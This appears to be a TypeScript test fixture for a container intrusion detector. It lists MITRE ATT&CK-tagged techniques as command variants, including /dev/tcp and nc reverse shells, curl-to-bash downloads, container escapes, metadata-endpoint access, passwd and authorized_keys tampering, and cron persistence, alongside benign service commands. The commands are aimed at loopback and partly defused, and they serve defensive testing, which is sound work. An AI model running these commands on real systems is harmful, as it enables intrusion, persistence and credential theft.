/**
 * What intruders do, and what services do that looks like it: each carried out in a real container by attacks.test.ts. A technique
 * has variants, because a rule that only knows one of them knows a string, not a technique.
 */
import type { Severity } from '#proto/finding.ts'

export interface Variant {
  readonly name: string
  /** The container's entry point. `PORT` stands for a port of loopback where somebody listens. */
  readonly args: readonly string[]
  /** Programs put into the image: path to `busybox` or `intruder`. */
  readonly programs?: Readonly<Record<string, 'busybox' | 'intruder'>>
}

export interface Technique {
  readonly name: string
  /** MITRE ATT&CK. */
  readonly mitre: string
  /** At least one finding of this severity or worse is expected. */
  readonly expected: Severity
  readonly variants: readonly Variant[]
}

const sh = (name: string, script: string, programs?: Variant['programs']): Variant => ({
  name,
  args: ['/bin/sh', '-c', script],
  ...(programs && { programs }),
})

const intruder = { '/opt/i': 'intruder' } as const

export const techniques: readonly Technique[] = [
  {
    name: 'reverse shell on a socket',
    mitre: 'T1059.004',
    expected: 'high',
    variants: [
      {
        name: 'sh',
        args: ['/opt/i', 'socket', 'PORT', '/bin/sh', '-c', 'exit'],
        programs: intruder,
      },
      {
        name: 'stdin alone',
        args: ['/opt/i', 'half', 'PORT', '/bin/ash', '-c', 'exit'],
        programs: intruder,
      },
      {
        name: 'python by name',
        args: ['/opt/i', 'socket', 'PORT', '/usr/bin/python3'],
        programs: { ...intruder, '/usr/bin/python3': 'busybox' },
      },
      { name: 'busybox nc -e', args: ['/bin/nc', '127.0.0.1', 'PORT', '-e', '/bin/sh'] },
      sh('dev tcp', 'true "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1"; exit'),
      sh(
        'named pipe',
        'rm -f /tmp/f; mkfifo /tmp/f; true | nc 127.0.0.1 PORT </dev/null >/tmp/g; exit',
      ),
    ],
  },
  {
    name: 'execution of a dropped file',
    mitre: 'T1105',
    expected: 'high',
    variants: [
      sh('a copied binary', 'cp /bin/busybox /home-x; chmod 755 /home-x; /home-x true; exit 0'),
      sh(
        'in a hidden directory',
        'mkdir -p /var/.x; cp /bin/busybox /var/.x/kworker; /var/.x/kworker true; exit 0',
      ),
      sh('among the programs', 'cp /bin/busybox /bin/sshd-x; /bin/sshd-x true; exit 0'),
    ],
  },
  {
    name: 'execution from memory',
    mitre: 'T1620',
    expected: 'high',
    variants: [
      { name: 'busybox', args: ['/opt/i', 'memory', '/bin/busybox', 'true'], programs: intruder },
      {
        name: 'itself',
        args: ['/opt/i', 'memory', '/opt/i', 'child', '/bin/true'],
        programs: intruder,
      },
      sh('under a shell', '/opt/i memory /bin/busybox id; exit 0', intruder),
    ],
  },
  {
    name: 'download piped into a shell',
    mitre: 'T1105',
    expected: 'medium',
    variants: [
      sh('wget to sh', 'wget -qO- http://127.0.0.1:1/x | sh; exit 0'),
      sh('curl to bash', 'true; curl -s http://127.0.0.1:1/x | bash; exit 0'),
      sh('process substitution', 'true "bash <(curl -s http://127.0.0.1:1/x)"; exit 0'),
    ],
  },
  {
    name: 'execution from a directory for temporary files',
    mitre: 'T1036.005',
    expected: 'medium',
    variants: [
      sh('/tmp', 'cp /bin/busybox /tmp/x; /tmp/x true; exit 0'),
      sh('/var/tmp', 'mkdir -p /var/tmp; cp /bin/busybox /var/tmp/.y; /var/tmp/.y true; exit 0'),
      sh('/dev/shm', 'mkdir -p /dev/shm; cp /bin/busybox /dev/shm/z; /dev/shm/z true; exit 0'),
    ],
  },
  {
    name: 'miner',
    mitre: 'T1496',
    expected: 'high',
    variants: [
      { name: 'by name', args: ['/opt/xmrig'], programs: { '/opt/xmrig': 'busybox' } },
      { name: 'renamed', args: ['/bin/echo', '-o', 'stratum+tcp://127.0.0.1:3333'] },
      { name: 'by a flag', args: ['/bin/echo', '--donate-level', '1'] },
    ],
  },
  {
    name: 'leaving the container',
    mitre: 'T1611',
    expected: 'high',
    variants: [
      {
        name: 'nsenter',
        args: ['/usr/bin/nsenter', '-t', '1', '-m', '/bin/true'],
        programs: { '/usr/bin/nsenter': 'busybox' },
      },
      { name: 'chroot', args: ['/bin/chroot', '/host', '/bin/true'] },
      { name: 'a disk', args: ['/bin/mount', '/dev/sda1', '/mnt'] },
    ],
  },
  {
    name: 'kernel module',
    mitre: 'T1547.006',
    expected: 'high',
    variants: [
      { name: 'insmod', args: ['/bin/insmod', '/x.ko'] },
      { name: 'modprobe', args: ['/bin/modprobe', 'x'] },
      // By its path: within its own shell busybox runs its applets without executing anything.
      sh('under a shell', '/bin/insmod /x.ko; exit 0'),
    ],
  },
  {
    name: 'cloud metadata',
    mitre: 'T1552.005',
    expected: 'medium',
    variants: [
      { name: 'nc', args: ['/bin/nc', '-w', '1', '169.254.169.254', '80'] },
      sh('nc under a shell', '/bin/nc -w 1 169.254.169.254 80 </dev/null; exit 0'),
      {
        name: 'curl by name',
        args: ['/usr/bin/curl', '169.254.169.254', '80'],
        programs: { '/usr/bin/curl': 'intruder' },
      },
    ],
  },
  {
    name: 'shell under a web server',
    mitre: 'T1505.003',
    expected: 'medium',
    variants: [
      {
        name: 'nginx',
        args: ['/usr/sbin/nginx', 'child', '/bin/sh', '-c', 'exit'],
        programs: { '/usr/sbin/nginx': 'intruder' },
      },
      {
        name: 'apache2',
        args: ['/usr/sbin/apache2', 'child', '/bin/ash', '-c', 'id'],
        programs: { '/usr/sbin/apache2': 'intruder' },
      },
      {
        name: 'php-fpm',
        args: ['/usr/sbin/php-fpm', 'child', '/bin/sh', '-c', 'ls'],
        programs: { '/usr/sbin/php-fpm': 'intruder' },
      },
    ],
  },
  {
    name: 'network tools',
    mitre: 'T1046',
    expected: 'medium',
    variants: [
      { name: 'nmap', args: ['/usr/bin/nmap', '-sS'], programs: { '/usr/bin/nmap': 'busybox' } },
      { name: 'masscan', args: ['/opt/masscan'], programs: { '/opt/masscan': 'busybox' } },
      {
        name: 'tcpdump',
        args: ['/usr/sbin/tcpdump'],
        programs: { '/usr/sbin/tcpdump': 'busybox' },
      },
    ],
  },
  {
    name: 'accounts and keys',
    mitre: 'T1136.001',
    expected: 'medium',
    variants: [
      { name: 'adduser', args: ['/opt/useradd', 'x'], programs: { '/opt/useradd': 'busybox' } },
      sh('a line in passwd', 'true "echo x::0:0::/:/bin/sh >> /etc/passwd"; exit 0'),
      sh('a key', 'mkdir -p /root/.ssh; echo ssh-rsa A >> /root/.ssh/authorized_keys; exit 0'),
    ],
  },
  {
    name: 'scheduled tasks',
    mitre: 'T1053.003',
    expected: 'medium',
    variants: [
      { name: 'crontab', args: ['/bin/crontab', '/x'] },
      sh('cron.d', 'mkdir -p /etc/cron.d; echo x > /etc/cron.d/x; exit 0'),
      sh('spool', 'mkdir -p /var/spool/cron; echo x > /var/spool/cron/root; exit 0'),
    ],
  },
]

/** What services do, and nobody wants to hear of: no finding of medium or worse. */
export const benign: readonly Variant[] = [
  sh(
    'an entry point that prepares files',
    'sed -i s/a/b/ /etc/passwd; chown 0:0 /etc/passwd; exec sleep 0',
  ),
  sh('a job like cron’s', 'for i in 1 2 3; do date; ls /tmp; tar -cf /dev/null /etc; done'),
  sh('a health probe', 'nc -w 1 127.0.0.1 PORT </dev/null; exit 0'),
  sh('a download', 'true wget -qO /tmp/a http://127.0.0.1/a; tar -tf /tmp/a; exit 0'),
  {
    name: 'a CGI shop',
    args: ['/bin/sh', '-c', 'httpd -p 127.0.0.1:0 -h /tmp; env | sort; exit 0'],
  },
  sh('a wait for a database', 'nc -z -w 1 127.0.0.1 PORT; exit 0'),
  sh('pipes', 'cat /etc/passwd | grep root | cut -d: -f1 | sort | uniq -c; exit 0'),
  sh('a pipe with a name', 'mkfifo /tmp/p; (echo x >/tmp/p &); cat /tmp/p; exit 0'),
  sh('a look at processes and mounts', 'ps; mount; df; id; hostname; exit 0'),
  sh('names that are asked for', 'nslookup db.shop.svc.cluster.local 127.0.0.1; exit 0'),
]
